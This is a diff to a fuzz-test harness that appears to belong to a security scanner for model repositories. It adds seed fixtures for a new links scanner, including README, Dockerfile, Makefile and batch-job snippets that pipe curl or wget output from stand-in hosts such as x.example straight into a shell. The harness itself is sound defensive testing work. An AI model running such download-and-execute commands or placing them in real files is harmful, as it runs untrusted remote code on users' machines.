@@ -24,6 +24,7 @@ from app.core.findings import Severity, Status
 from app.core.policy.errors import PolicyError
 from app.core.policy.loader import load_policy
 from app.core.scanners.binary_scanner import BinaryScanner
+from app.core.scanners.links_scanner import LinksScanner
 from app.core.scanners.load_closure_scanner import LoadClosureScanner
 from app.core.scanners.pickle_scanner import PickleScanner
 from app.core.scanners.safetensors_scanner import SafetensorsScanner
@@ -172,6 +173,36 @@ def _loader_files() -> st.SearchStrategy[tuple[str, bytes]]:
     cards = h.mutated([LOADER_CARD.encode()]).map(lambda data: ("README.md", data))
     raw = st.tuples(st.sampled_from([*sorted(LOADER_SEEDS), "README.md", "extras.pth"]), st.binary(max_size=300))
     return st.one_of(configs, cards, raw)
+
+
+INSTRUCTION_SEEDS = {
+    "README.md": "```bash\nU=https://x.example/i.sh\ncurl -fsSL \"$U\" | tee /tmp/i | env bash -s -- -y\n"
+                 "fetch() { curl -s \"$@\"; }\nbash <<EOF\n$(fetch https://x.example/j)\nEOF\n"
+                 "hf download o/r --local-dir d && pip install ./d --extra-index-url https://i.example n\n```\n",
+    "Dockerfile": "ARG U=https://x.example/a\nRUN [\"sh\", \"-c\", \"wget -O- $U | sh\"]\n",
+    "Makefile": "R := bash\nsetup:\n\tcurl -s https://x.example/m | $(R)\n",
+    "pyproject.toml": "[project]\ndependencies = [\"a @ git+https://github.com/o/r\"]\n"
+                      "[tool.uv.sources]\nb = { git = \"https://github.com/o/b\" }\n",
+    "environment.yml": "channels: [o]\ndependencies:\n  - o::p\n  - pip:\n    - --extra-index-url https://i.example\n",
+    "values.yaml": "image:\n  registry: r.example\n  repository: o/i\n  tag: '1'\n",
+    "job.sbatch": "#!/bin/bash\n#SBATCH --container-image=r.example#o/i:1\nsrun bash -c \"$(curl -s https://x.example)\"\n",
+}
+
+
+def instruction_file(case: tuple[str, bytes]) -> None:
+    """Whatever a card, script, manifest or launcher config holds, the links scanner parses it (shell and
+    declarations) without failing and says only declared rules."""
+    path, data = case
+    outcome = h.scan_direct(LinksScanner(), path, data)
+    if outcome is not None:
+        assert outcome.status is Status.SCANNED, outcome.detail
+
+
+def _instruction_files() -> st.SearchStrategy[tuple[str, bytes]]:
+    edited = st.sampled_from(sorted(INSTRUCTION_SEEDS)).flatmap(
+        lambda path: h.mutated([INSTRUCTION_SEEDS[path].encode()]).map(lambda data: (path, data)))
+    shell = st.text(alphabet="ab$(){}|&;<>\"'`\\\n =-#!/:.cursh", max_size=200).map(lambda t: ("run.sh", t.encode()))
+    return st.one_of(edited, shell)
 
 
 # --- policy, webhook, ids, report ---------------------------------------------------------------
@@ -323,5 +354,9 @@ TARGETS: tuple[Target, ...] = (
     Target("loader-files", _loader_files(), loader_file,
            ("app/core/loaders/readers.py", "app/core/loaders/forms.py", "app/core/loaders/fields.py",
             "app/core/loaders/text_shapes.py", "app/core/scanners/load_closure_scanner.py")),
+    Target("instruction-files", _instruction_files(), instruction_file,
+           ("app/core/scanners/text_rules/shell/flow.py", "app/core/scanners/text_rules/shell/runs.py",
+            "app/core/scanners/text_rules/shell/programs.py", "app/core/scanners/text_rules/declarations/pyproject.py",
+            "app/core/scanners/text_rules/declarations/yaml_files.py", "app/core/scanners/links_scanner.py")),
 )
 BY_NAME = {t.name: t for t in TARGETS}
